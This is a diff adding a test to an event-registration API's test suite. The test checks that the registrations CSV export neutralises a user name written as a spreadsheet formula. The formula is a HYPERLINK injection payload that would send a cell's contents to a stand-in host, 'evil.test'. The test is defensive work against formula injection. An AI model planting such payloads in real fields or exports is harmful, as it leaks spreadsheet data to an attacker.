@@ -4,6 +4,8 @@ or revoked."""
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 from datetime import timedelta
 
@@ -199,3 +201,20 @@ async def test_organisers_see_who_came_and_export_it(
         "Holder,holder@example.org,,,onsite,confirmed,2027-03-20T09:00:00Z",
     ]
     assert refused.status_code == 403
+
+
+async def test_the_export_writes_a_name_that_looks_like_a_formula_as_text(
+    client: httpx.AsyncClient, seats: int, db: AsyncSession, clock: FakeClock
+) -> None:
+    header = {"Authorization": "Bearer organiser"}
+    organiser = await signed_in(db, clock, "organiser@example.org", header)
+    await grant(db, organiser, Role.organiser, forum_id=(await get_forum(db, "test-forum")).id)
+    await db.commit()
+    formula = '=HYPERLINK("http://evil.test/?"&A1,"open")'
+    renamed = await client.patch("/api/v1/me", json={"name": formula}, headers=HOLDER)
+    assert renamed.status_code == 200, renamed.text
+
+    exported = await client.get(f"/api/v1/sessions/{seats}/registrations.csv", headers=header)
+
+    rows = list(csv.reader(io.StringIO(exported.text)))
+    assert rows[1][:2] == ["'" + formula, "holder@example.org"]
